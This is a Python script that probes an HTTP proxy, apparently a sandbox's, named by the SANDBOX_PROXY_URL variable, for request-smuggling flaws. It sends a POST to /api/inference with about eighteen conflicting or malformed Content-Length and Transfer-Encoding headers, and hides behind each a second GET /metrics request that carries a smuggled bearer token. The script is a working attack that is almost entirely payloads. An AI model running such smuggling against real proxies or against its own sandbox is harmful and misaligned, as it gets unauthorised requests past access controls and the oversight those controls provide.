"""Hides a second request in the first: two lengths, lengths that lie, odd chunks, bare line ends."""

import os
import socket

host, port = os.environ["SANDBOX_PROXY_URL"].removeprefix("http://").split(":")


def say(raw, patience=1.5):
    """What comes back for these bytes, until the proxy closes or patience ends."""
    got = b""
    try:
        with socket.create_connection((host, int(port)), timeout=patience) as sock:
            sock.sendall(raw)
            while piece := sock.recv(65536):
                got += piece
    except OSError as error:
        return got or repr(error).encode()
    return got


hidden = b"GET /metrics HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer smuggled\r\n\r\n"
line = b"POST /api/inference HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
for head in (
    b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
    b"Content-Length: 2\r\nContent-Length: 100\r\n\r\n{}",
    b"Content-Length: +2\r\n\r\n{}",
    b"Content-Length: 2 \r\n\r\n{}",
    b"Content-Length: 0x2\r\n\r\n{}",
    b"Content-Length: -1\r\n\r\n{}",
    b"Content-Length: 99999999999999999999\r\n\r\n{}",
    b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\n\r\n2;ext=\"\r\n\r\n{}\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n",
    b"Transfer-Encoding: chunked\r\n\r\n2\n{}\n0\n\n",
    b"X: a\rContent-Length: 0\r\n\r\n",
    b"X: a\n\nGET /v1/models HTTP/1.1\r\n",
    b"\0Content-Length: 2\r\n\r\n{}",
):
    print(say(line + head + hidden, 0.4)[:40], flush=True)
